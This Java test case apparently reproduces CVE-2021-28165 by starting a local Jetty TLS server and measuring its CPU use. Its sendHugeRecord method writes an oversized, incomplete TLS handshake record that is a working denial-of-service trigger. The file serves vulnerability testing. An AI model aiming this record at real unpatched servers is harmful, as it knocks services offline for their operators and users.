package dev.rouse.acceptance.cases;

import java.io.IOException;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.lang.reflect.Constructor;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.eclipse.jetty.server.Server;
import org.eclipse.jetty.server.ServerConnector;
import org.eclipse.jetty.util.ssl.SslContextFactory;

/**
 * <a href="https://nvd.nist.gov/vuln/detail/CVE-2021-28165">CVE-2021-28165</a>: a TLS record longer than Jetty's buffer
 * never becomes whole, and {@code SslConnection} goes on unwrapping the full buffer: every round consumes nothing.
 */
final class JettyTls28165 {
    private static final String PASSWORD = "not a secret";

    public static void main(String[] arguments) throws Exception {
        ServerConnector connector = serve(keyStore());
        try (Socket client = new Socket(InetAddress.getLoopbackAddress(), connector.getLocalPort())) {
            sendHugeRecord(client.getOutputStream());
            TimeUnit.SECONDS.sleep(1);
            long before = cpuTime();
            long since = System.nanoTime();
            TimeUnit.NANOSECONDS.sleep(Outcome.PATIENCE.toNanos() / 2);
            double cores = (cpuTime() - before) / (double) (System.nanoTime() - since);
            Outcome.end(
                    cores > 0.5, "after one long record the server takes " + Math.round(cores * 100) + " % of a core");
        }
    }

    private static Path keyStore() throws IOException, InterruptedException {
        Path file = Files.createTempDirectory("jetty").resolve("keys.p12");
        String keytool =
                Path.of(System.getProperty("java.home"), "bin", "keytool").toString();
        new ProcessBuilder(
                        keytool,
                        "-genkeypair",
                        "-alias",
                        "server",
                        "-keyalg",
                        "EC",
                        "-dname",
                        "CN=localhost",
                        "-storetype",
                        "PKCS12",
                        "-storepass",
                        PASSWORD,
                        "-keystore",
                        file.toString())
                .redirectErrorStream(true)
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .start()
                .waitFor();
        return file;
    }

    private static ServerConnector serve(Path keyStore) throws Exception {
        SslContextFactory.Server tls = new SslContextFactory.Server();
        tls.setKeyStorePath(keyStore.toUri().toString());
        tls.setKeyStorePassword(PASSWORD);
        Server server = new Server();
        ServerConnector connector = connector(server, tls);
        connector.setHost(InetAddress.getLoopbackAddress().getHostAddress());
        server.addConnector(connector);
        server.start();
        return connector;
    }

    /** Jetty 9 and the later one that this is compiled with differ in the type of the parameter. */
    private static ServerConnector connector(Server server, SslContextFactory.Server tls)
            throws ReflectiveOperationException {
        for (Constructor<?> constructor : ServerConnector.class.getConstructors()) {
            Class<?>[] types = constructor.getParameterTypes();
            if (types.length == 2 && types[1].isInstance(tls)) {
                return (ServerConnector) constructor.newInstance(server, tls);
            }
        }
        throw new IllegalStateException("this Jetty has no such connector");
    }

    /** A handshake record of 20,000 bytes, where 16 KB are the most; its last byte is not sent. */
    private static void sendHugeRecord(OutputStream out) throws IOException {
        byte[] record = new byte[20_000];
        record[0] = 22;
        record[1] = 3;
        record[2] = 1;
        record[3] = (byte) (record.length >> 8);
        record[4] = (byte) record.length;
        out.write(record);
        out.flush();
    }

    private static long cpuTime() {
        return ((com.sun.management.OperatingSystemMXBean) ManagementFactory.getOperatingSystemMXBean())
                .getProcessCpuTime();
    }
}
